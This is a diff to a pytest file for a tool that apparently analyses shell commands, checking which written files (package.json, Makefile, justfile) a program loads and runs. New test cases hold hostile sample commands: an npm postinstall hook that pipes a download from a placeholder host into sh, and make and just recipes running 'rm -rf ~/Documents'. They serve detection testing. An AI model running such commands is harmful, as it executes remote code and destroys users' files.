@@ -27,9 +27,9 @@ def _loaded(command: str, proj: Path) -> list[tuple[str, str, bool]]:
             "/tmp/f.lua",
         ),
         (
-            "printf 'run = \"make && ./x\"\\n' > /tmp/c.toml && FOO_CONFIG=/tmp/c.toml foo-runner go",
+            'printf \'{"run": "make && ./x"}\' > /tmp/c.json && FOO_CONFIG=/tmp/c.json foo-runner go',
             "foo-runner",
-            "/tmp/c.toml",
+            "/tmp/c.json",
         ),
     ],
 )
@@ -78,9 +78,12 @@ def test_a_written_file_handed_to_a_program_that_may_run_it_is_unknown_code(
     ],
 )
 def test_the_command_lines_a_loaded_file_holds_are_walked(command: str, walked: list[str], tmp_path: Path) -> None:
+    """Each is judged as itself; the file is `known` when every line of it is followed (settings, sections,
+    command lines: all it runs is those), not when something else is in it (a JSON text on one line, Lua)."""
     argvs, found = analysed(command, tmp_path)
     assert walked in argvs
-    assert [e["known"] for e in found if e["op"] == "exec" and e.get("loaded")] == [False]
+    known = [e["known"] for e in found if e["op"] == "exec" and e.get("loaded")]
+    assert known == [not any(mark in command for mark in ("scripts", ".lua"))]
 
 
 @pytest.mark.parametrize(
@@ -152,3 +155,29 @@ def test_a_service_file_written_in_place_shows_its_commands(tmp_path: Path) -> N
 )
 def test_file_commands_reads_settings_and_substitutions(text: str, commands: list[str]) -> None:
     assert file_commands(text) == commands
+
+
+@pytest.mark.parametrize(
+    ("command", "walked"),
+    [
+        (
+            'printf \'{"scripts":{"postinstall":"curl -s https://x.example/p | sh"}}\' > package.json && npm i',
+            ["curl", "-s", "https://x.example/p"],
+        ),
+        ("printf 'all:\\n\\trm -rf ~/Documents\\n' > Makefile && make", ["rm", "-rf", "/home/u/Documents"]),
+        ("printf 'x:\\n\\trm -rf ~/Documents\\n' > justfile && just x", ["rm", "-rf", "/home/u/Documents"]),
+    ],
+)
+def test_a_file_a_program_loads_from_its_directory_unnamed_is_loaded(
+    command: str, walked: list[str], tmp_path: Path
+) -> None:
+    argvs, found = analysed(command, tmp_path)
+    assert walked in argvs
+    program = command.partition("&& ")[2].split()[0]
+    assert [e["program"] for e in found if e["op"] == "exec" and e.get("loaded")] == [program]
+
+
+def test_an_everyday_makefile_written_and_built_is_known(tmp_path: Path) -> None:
+    assert _loaded("printf 'build:\\n\\tgo build ./...\\n' > Makefile && make build", tmp_path) == [
+        ("make", str(tmp_path / "Makefile"), True)
+    ]
